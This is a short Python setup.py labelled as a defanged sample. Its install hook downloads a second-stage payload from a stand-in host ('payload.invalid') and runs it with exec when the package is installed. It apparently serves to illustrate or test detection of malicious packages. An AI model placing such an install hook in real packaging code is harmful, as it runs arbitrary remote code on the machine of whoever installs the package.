# Hand-written sample, defanged: its hosts are reserved names that resolve nowhere. Never run it.
import requests
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        answer = requests.get("https://payload.invalid/stage2")
        namespace = {}
        exec(answer.content.decode(), namespace)


setup(name="sample", cmdclass={"install": Install})
